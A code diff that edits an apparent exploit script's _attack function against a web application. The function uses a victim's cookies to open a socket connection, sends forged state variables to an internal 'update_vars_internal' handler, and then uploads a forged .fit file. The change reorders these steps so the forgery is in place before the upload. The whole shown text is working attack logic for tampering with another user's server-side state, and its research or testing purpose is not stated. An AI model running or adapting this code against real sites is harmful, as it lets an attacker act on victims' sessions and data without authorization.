@@ -412,8 +412,10 @@ def _attack(site_url: str, cookies: dict[str, str], victim: Victim, call) -> tup
     full_name = handler_name(state.get_full_name(), name)
     try:
         connection.open()
-        # The page load may have reset them: forged again, as the browser syncs storage, right before.
-        connection.send(handler_name(UPDATE_VARS_STATE, "update_vars_internal"), {"vars": forged}, wait=False)
+        # The page load may have reset them: forged again, as the browser syncs storage, right before. A
+        # socket event follows in order; an upload comes over HTTP, so it waits until the forgery is in.
+        forge = handler_name(UPDATE_VARS_STATE, "update_vars_internal")
+        connection.send(forge, {"vars": forged}, wait=bool(upload))
         if upload:
             connection.upload(full_name, payload, "forged.fit", small_fit(datetime(2026, 10, 4, tzinfo=UTC)))
         else:
